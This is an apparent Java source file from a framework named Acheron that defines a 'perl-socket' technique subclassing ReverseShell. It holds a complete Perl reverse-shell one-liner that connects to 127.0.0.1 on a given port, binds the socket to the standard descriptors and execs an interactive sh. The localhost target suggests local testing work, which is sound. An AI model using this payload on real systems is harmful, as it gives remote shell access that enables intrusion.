/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.local.technique;

import java.util.List;

/** An interpreter turns into the shell: perl puts the socket on its own descriptors and executes sh. */
public final class PerlSocket extends ReverseShell {
    /** Made by the service loader. */
    public PerlSocket() {
        super(
                "perl-socket",
                "perl connects, puts the socket on descriptors 0, 1 and 2 and becomes a shell",
                List.of(List.of("perl")));
    }

    @Override
    List<String> command(Stage stage, int port) throws TechniqueFailedException {
        return List.of(stage.tool("perl"), "-e", """
                use Socket;
                socket(S, PF_INET, SOCK_STREAM, 6) or die $!;
                connect(S, sockaddr_in(%d, inet_aton("127.0.0.1"))) or die $!;
                open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
                exec { "/bin/sh" } "sh", "-i";
                """.formatted(port));
    }
}
